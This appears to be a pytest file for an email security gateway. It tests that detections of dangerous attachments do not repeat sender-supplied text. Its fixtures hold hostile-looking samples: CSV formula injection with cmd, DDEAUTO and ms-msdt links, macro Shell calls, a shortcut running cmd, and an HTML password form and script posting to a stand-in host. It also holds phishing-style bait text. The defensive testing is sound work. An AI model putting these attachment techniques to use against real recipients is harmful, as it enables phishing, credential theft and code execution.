"""What a finding says names the danger, and repeats nothing that a sender wrote: no name, no value, no query.

Marks stand in every place that an attachment can carry a string in; none may be in a record, log line, notice or
answer of a command. Under "endings" that holds for the names of files as well.
"""

import email.policy
import html
import io
import json
import runpy
import urllib.parse
import zipfile
from email import message_from_bytes
from pathlib import Path

import pytest
from support.archived import with_attachments
from support.client import send
from support.gateway import RunningGateway, wait_for
from support.office import macro_file, paragraph, run, word
from support.sink import Sink

shortcut = runpy.run_path(str(Path(__file__).parents[1] / "unit/parse/unpack/active/test_shell_link.py"))["shortcut"]

MARK, NAME, LIST, MAIL = "Kanarienvogel", "山田太郎", "顧客名簿", "taro.yamada@example.jp"
CARD, NUMBER = "4111111111111111", "123456789018"
MARKS = (MARK, NAME, LIST, MAIL, CARD, NUMBER)
URL = f"https://{MARK}:pw@x.example/{urllib.parse.quote(NAME)}/{CARD}?mail={MAIL}&card={CARD}#{MARK}"
PROGRAM, SHARED = rf"C:\Users\{NAME}\{LIST}.exe", rf"\\srv.example\{MARK}\{NAME}.pdf"
PAGE = "text/html"

POLICY = """
[[rule]]
name = "told"
when = { finding = "*" }
then = { disposition = "deliver", notify = ["sender", "reviewer", "administrator"], log = true }
"""


def pdf(*objects):
    return b"%PDF-1.7\n" + b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (n, o.encode("latin-1")) for n, o in enumerate(objects, 1)
    )


def octets(text):
    return "<" + (b"\xfe\xff" + text.encode("utf-16-be")).hex() + ">"


def jar():
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\r\nMain-Class: {MARK}.Main\r\n")
        archive.writestr("a/B.class", b"\xca\xfe\xba\xbe")
    return whole.getvalue()


def rtf():
    name = f"{MARK}.Thing\0".encode()
    ole = b"\1\5\0\0\2\0\0\0" + len(name).to_bytes(4, "little") + name + bytes(8) + b"\4\0\0\0data"
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + ole.hex().encode() + b"}}}"


def document():
    dde = f'<w:r><w:instrText>DDEAUTO cmd "/c {MARK} {MAIL}"</w:instrText></w:r>'
    field = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    body = paragraph(run("Hello"), field.format("begin"), dde, field.format("end"))
    return word(
        body,
        ("r1", "attachedTemplate", html.escape(URL), "External"),
        ("r2", "oleObject", html.escape(f"{URL}.hta"), "External"),
        ("r3", "hyperlink", f"ms-msdt:/id {MARK} {MAIL}", "External"),
        ("r4", MARK, html.escape(URL), "External"),
    )


def program(module):
    return f'Sub {module}()\nShell "cmd /c {MARK}"\nEnd Sub'


ATTACHMENTS = {
    "launch": ("a.pdf", pdf(f"<</S/Launch/F{octets(PROGRAM)}>>"), "attachment/pdf-launch", "*.exe"),
    "submit": ("b.pdf", pdf(f"<</S/SubmitForm/F{octets(URL)}>>"), "attachment/pdf-remote", "x.example"),
    "share": ("c.pdf", pdf(f"<</S/GoToR/F{octets(SHARED)}>>"), "attachment/pdf-remote", "srv.example"),
    "form": (
        "a.html",
        f'<form method="post" action="{URL}"><input type="password" name="p"></form>'.encode(),
        "attachment/html-form",
        "x.example",
    ),
    "sender": (
        "b.html",
        f'<input type="password"><script>fetch("{URL}", {{method: "POST"}})</script>'.encode(),
        "attachment/html-form",
        "",
    ),
    "leads": (
        "c.html",
        f'<script>location.href = "data:{PAGE},{MARK}{NAME}"</script>'.encode(),
        "attachment/html-obfuscated",
        "data:",
    ),
    "cell": (
        "a.csv",
        f'{NAME},"=HYPERLINK(""{URL}"",""{NUMBER}"")"\r\n{NAME},=WEBSERVICE("{URL}")\r\n'.encode(),
        "attachment/csv-formula",
        "webservice",
    ),
    "command cell": (
        "b.csv",
        f"{NAME},{NUMBER}\r\n=cmd|'/c copy {MARK} {NAME}'!A1\r\n".encode(),
        "attachment/csv-formula",
        "cmd",
    ),
    "lnk": (
        "a.lnk",
        shortcut(target="C:\\Windows\\System32\\cmd.exe", arguments=f"/c net use z: /user:{MARK} {MAIL} {CARD}"),
        "attachment/shortcut",
        "cmd",
    ),
    "url": ("a.url", f"[InternetShortcut]\r\nURL={URL}\r\n".encode(), "attachment/shortcut", "x.example"),
    "file url": (
        "b.url",
        f"[InternetShortcut]\r\nURL=file://srv.example/{MARK}/{MAIL}.exe\r\n".encode(),
        "attachment/shortcut",
        "srv.example",
    ),
    "desktop": (
        "a.desktop",
        f"[Desktop Entry]\nType=Application\nExec=bash -c 'echo {MARK} {MAIL}'\n".encode(),
        "attachment/shortcut",
        "bash",
    ),
    "webloc": (
        "a.webloc",
        f'<?xml version="1.0"?><plist version="1"><dict><key>URL</key><string>{URL}</string></dict></plist>'.encode(),
        "attachment/shortcut",
        "x.example",
    ),
    "svg": (
        "a.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(&quot;{MARK}{MAIL}&quot;)"></svg>'.encode(),
        "attachment/svg-script",
        "fetch",
    ),
    "svg script": (
        "b.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script href="{URL}"/></svg>'.encode(),
        "attachment/svg-script",
        "",
    ),
    "svg frame": (
        "c.svg",
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><script>document.createElementNS('
            f"'{MARK}', 'iframe')</script></svg>"
        ).encode(),
        "attachment/svg-script",
        "createElement",
    ),
    "rtf": ("a.rtf", rtf(), "attachment/rtf-object", "another class"),
    "docx": ("a.docx", document(), "attachment/remote-template", "x.example"),
    "dde": ("b.docx", document(), "attachment/dde", "cmd"),
    "macro": ("a.doc", macro_file(program(f"{MARK}_StatusTextChange")), "attachment/macro-dangerous", "an event"),
    "jar": ("a.jar", jar(), "attachment/program", "Java"),
}  # fmt: skip


def raw(identity, *attachments):
    body = (
        f"<{URL}>\r\nPlease reply with your {MARK} password. Please change {MARK} direct deposit account.\r\n"
        "You must buy " + f"{MARK} {NAME} gift cards and send me the codes.\r\n"
    )
    return with_attachments(identity, *attachments, body=body)


def odd_parts():
    """Names and words in the fields of MIME parts."""
    part = (
        "--b\r\nContent-Type: {type}\r\nContent-Transfer-Encoding: {encoding}\r\n"
        "Content-Disposition: attachment; {names}\r\n{more}\r\nHello\r\n"
    )
    parts = (
        part.format(
            type=f"text/plain; charset={MARK}",
            encoding=MARK,
            names=f'filename="{MARK}.pdf"; filename="{MARK}.exe"',
            more="",
        )
        + part.format(
            type=f"text/{MARK}",
            encoding="7bit",
            names="filename=b",
            more=f"Content-Type: {MARK}/{MARK}\r\nX-{MARK} : a\r\n",
        )
        + f"--b\r\n\r\nbegin 644 {MARK}.exe\r\n#0V%T\r\n`\r\nend\r\n--b--\r\n"
    )
    return (
        "From: hanako@example.com\r\nTo: taro@example.net\r\nSubject: odd\r\nMessage-ID: <odd@example.com>\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n{parts}'
    ).encode()


def repeated(text):
    """The marks in a text, whatever their case and spelling."""
    plain = urllib.parse.unquote(text).lower()
    return [mark for mark in MARKS if mark.lower() in plain]


@pytest.fixture(scope="module", params=["masked", "endings"])
def gateway(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp("gateway")
    (folder / "policy.toml").write_text(POLICY)
    with Sink() as sink:
        sections = (
            f'[record]\nfile_names = "{request.param}"\n[tenant.default]\ndomains = ["example.com"]\n'
            f'policy = ["policy.toml"]\n[[tenant.default.next_hop]]\nhosts = ["127.0.0.1:{sink.port}"]\n'
            '[tenant.default.notice]\nreviewer = ["reviewer@example.com"]\nadministrator = ["admin@example.com"]\n'
        )
        with RunningGateway(folder, sections=sections, workers=1) as running:
            running.sink, running.file_names = sink, request.param
            send_all(running)
            yield running


def send_all(gateway):
    inside_names = gateway.file_names == "endings"
    for number, (name, content, *_) in enumerate(ATTACHMENTS.values()):
        shown = f"{MARK}{MAIL}.{name.rpartition('.')[2]}" if inside_names else name
        send(gateway.port, raw(f"m{number}", (shown, content)))
    send(gateway.port, odd_parts())
    wait_for("all notices", lambda: len(notices(gateway)) >= 2 * len(ATTACHMENTS))


def notices(gateway):
    own = ("hanako@example.com", "reviewer@example.com", "admin@example.com")
    return [
        message_from_bytes(d, policy=email.policy.default) for to, d in gateway.sink.received if set(to) & set(own)
    ]


def test_the_marks_are_found_by_this_test():
    assert set(repeated(URL + NAME + LIST + NUMBER)) == set(MARKS)


def lines(gateway):
    return [json.loads(line) for line in gateway.log.read_text().splitlines() if '"event":"message"' in line]


def test_log_lines(gateway):
    assert len(lines(gateway)) == len(ATTACHMENTS) + 1
    assert telling(gateway, lines(gateway)) == []


def telling(gateway, records):
    """The findings with a mark in them, but for the names of files where these are to be kept."""
    found = [dict(f) for record in records for f in record["findings"]]
    for finding in found if gateway.file_names == "masked" else ():
        finding.pop("path")
    return [f for f in found if in_finding(f)]


def in_finding(finding):
    return repeated(json.dumps(finding, ensure_ascii=False))


def test_audit_records(gateway):
    records = gateway.json("audit", "search", "--sender", "hanako@example.com")
    assert len(records) == len(ATTACHMENTS) + 1
    assert telling(gateway, records) == []


def test_notices(gateway):
    if gateway.file_names == "endings":
        pytest.skip("the sender and the reviewer are told the names of the files")
    for notice in notices(gateway):
        told = notice.get_body().get_content()
        for name in (f"{MARK}.pdf", f"{MARK}.exe"):  # of the odd parts: these names are to be kept
            told = told.replace(name, "")
        assert repeated(told) == []


def test_the_danger_is_still_told(gateway, tmp_path):
    """And what `check` prints repeats nothing either."""
    if gateway.file_names == "endings":
        pytest.skip("it is for records and logs")
    files = [tmp_path / f"{number}.eml" for number in range(len(ATTACHMENTS))]
    for file, (name, content, *_) in zip(files, ATTACHMENTS.values(), strict=True):
        file.write_bytes(raw("check", (name, content)))
    results = [json.loads(line) for line in gateway.run_cli("check", "--json", *map(str, files)).stdout.splitlines()]
    for (what, (_, _, rule, word_of_it)), result in zip(ATTACHMENTS.items(), results, strict=True):
        told = [f["explanation"] for f in result["findings"] if f["rule"] == rule]
        assert any(word_of_it in why for why in told), (what, result["findings"])
        assert [f for f in result["findings"] if in_finding(f)] == []
    assert repeated(gateway.run_cli("check", *map(str, files)).stdout) == []
